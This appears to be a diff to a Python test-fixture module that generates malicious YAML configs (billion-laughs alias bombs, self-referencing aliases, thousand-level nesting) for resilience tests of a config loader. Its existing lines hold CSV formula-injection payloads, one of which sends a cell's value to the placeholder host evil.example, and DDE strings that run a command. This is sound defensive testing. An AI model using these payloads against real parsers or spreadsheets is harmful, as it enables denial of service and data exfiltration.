@@ -9,7 +9,9 @@ from __future__ import annotations
 import base64
 import random
 from collections.abc import Iterator
+from pathlib import Path
 
+SHIPPED = (Path(__file__).resolve().parents[2] / "config.yaml").read_text(encoding="utf-8")
 CANARY = "resilience-canary-3f9a"  # a file name that must never appear on disk
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example","//a")')
@@ -152,3 +154,36 @@ def huge_line(megabytes: int = 50) -> bytes:
 def _chunks(chunk: bytes, n: int) -> Iterator[bytes]:
     for _ in range(n):
         yield chunk
+
+
+def billion_laughs(levels: int = 9) -> str:
+    """Anchors that each repeat the one before nine times: 9**levels strings once expanded."""
+    lines = ['b0: &b0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    lines += [f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 9)}]" for i in range(1, levels)]
+    return "\n".join(lines) + "\n"
+
+
+def with_value(path: str, value: str, prefix: str = "") -> str:
+    """The shipped config with the value at `path` ("company.name") replaced by raw YAML text."""
+    section, key = path.split(".")
+    start = SHIPPED.index(f"\n{section}:")
+    line_start = SHIPPED.index(f"\n  {key}:", start) + 1
+    line_end = SHIPPED.index("\n", line_start)
+    return prefix + SHIPPED[:line_start] + f"  {key}: {value}" + SHIPPED[line_end:]
+
+
+def config_bombs() -> dict[str, tuple[str, str]]:
+    """Configs that expand to gigabytes or nest a thousand levels deep: (YAML text, the path the error names)."""
+    return {
+        "alias bomb in company.name": (with_value("company.name", "*b8", billion_laughs()), "company.name: expands"),
+        "alias bomb in prefilter.block_senders": (
+            with_value("prefilter.block_senders", "*b8", billion_laughs()), "prefilter.block_senders: expands"),
+        "a long string repeated by aliases": (
+            "s: &s " + "x" * 500_000 + "\n" + with_value("company.name", "[" + ", ".join(["*s"] * 200) + "]"),
+            "company.name: expands"),
+        "an alias that contains itself": (with_value("company.domains", "&loop [*loop]"), "company.domains: expands"),
+        "1,000 levels of nesting": (with_value("company.name", "[" * 1000 + "]" * 1000),
+                                    "company.name[0][0]"),
+        "1,000 levels of mappings": (with_value("company.name", "{a: " * 1000 + "1" + "}" * 1000),
+                                     "company.name.a.a.a"),
+    }
